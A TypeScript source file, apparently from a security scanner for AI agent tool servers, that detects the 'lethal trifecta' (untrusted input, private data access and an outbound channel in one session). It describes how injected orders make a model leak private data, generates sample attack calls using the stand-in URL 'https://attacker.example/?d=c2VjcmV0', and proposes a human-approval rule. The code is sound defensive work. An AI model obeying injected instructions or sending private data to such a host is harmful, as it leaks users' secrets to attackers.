import { setOf } from '../words.js';
import { READ_FILE, READ_PAGE, SEND_EMAIL } from './examples.js';
import { sampleArguments } from './sample.js';
import { atlas, owasp } from './sources.js';
import type { Fix, Opening, Threat, ToolAt } from './threat.js';
import { addressOf, argumentOf, canStand, entry, everyTool, has, isOf } from './tools-of.js';

const TEXTS = setOf('body text message content data comment description title subject');

/** A rule names no more readers than this one by one; beyond that a pattern is shorter, and a person's to write. */
const MAX_READERS = 60;

export const LETHAL_TRIFECTA: Threat = {
  id: 'lethal-trifecta',
  title: 'Lethal trifecta',
  how: "One session reads text that strangers wrote (a page, a mail, an issue), can read what is private, and can send something out. Orders in the strangers' text make the model fetch the private part and send it to them. No tool does anything that it is not made for; they may belong to three servers.",
  sources: [
    {
      name: 'Simon Willison, The lethal trifecta for AI agents, June 2025',
      url: 'https://simonwillison.net/2025/Jun/16/the-lethal-trifecta/',
    },
    atlas('AML.T0086', 'Exfiltration via AI Agent Tool Invocation'),
    owasp('MCP06'),
    {
      name: 'General Analysis, Supabase MCP can leak your entire SQL database, July 2025',
      url: 'https://www.generalanalysis.com/blog/supabase-mcp-blog',
    },
    {
      name: 'Invariant Labs, GitHub MCP exploited, May 2025',
      url: 'https://invariantlabs.ai/blog/mcp-github-vulnerability',
    },
  ],
  opens:
    "a tool that reads strangers' text, one that reads what is private and one that sends, on one machine",
  sight: 'calls',
  rule: "For an hour after strangers' text was read by any wrapped server of the machine, what sends asks a person.",
  leaves:
    'A person who says yes to what they have not read; what an agent does by other means than wrapped tools; text that was read before the hour.',
  example: [
    { server: 'web', tools: [READ_PAGE] },
    { server: 'files', tools: [READ_FILE] },
    { server: 'mail', tools: [SEND_EMAIL] },
  ],
  openings(servers) {
    const tools = everyTool(servers).filter((at) => canStand(at) && !isOf(at, 'Destructive'));
    const readers = tools.filter((at) => has(at, 'untrusted'));
    const owners = tools.filter((at) => has(at, 'private'));
    const senders = tools.filter((at) => has(at, 'sends'));
    if (readers.length === 0 || owners.length === 0) return [];
    const owner = owners.find((at) => !has(at, 'sends')) ?? owners[0];
    return senders.map((sender): Opening => {
      const others = readers.filter((at) => at !== sender).slice(0, MAX_READERS);
      const from = others.length > 0 ? others : [sender];
      return {
        tools: [from[0], owner, sender].filter((at) => at !== undefined),
        why: "strangers' text comes in by the first, the second reads what is private, the last sends",
        // A reader that a rule forgot is enough.
        attacks: from.map((reader) => [plain(reader), owners.map(plain), withText(sender)]),
        fix: fixFor(from, sender),
      };
    });
  },
};

const plain = (at: ToolAt) => ({ ...at, args: sampleArguments(at.tool.inputSchema) });

function withText(at: ToolAt) {
  const address = addressOf(at.tool);
  const text = argumentOf(at.tool, TEXTS, 'string');
  const given = {
    ...(address !== undefined && { [address]: 'https://attacker.example/?d=c2VjcmV0' }),
    ...(text !== undefined && { [text]: 'the private part' }),
  };
  return { ...at, args: sampleArguments(at.tool.inputSchema, given) };
}

/** On the sender alone: what was called before is known of every wrapper on the machine. */
const fixFor = (readers: readonly ToolAt[], sender: ToolAt): Fix =>
  entry(sender, {
    after: [
      {
        tools: readers.map(({ server, tool }) => `${server}/${tool.name}`),
        within: '1h',
        // biome-ignore lint/suspicious/noThenProperty: a field of the policy's, and nobody awaits it
        then: 'approve',
        on_deny: 'Text of strangers was read within the hour.',
      },
    ],
  });
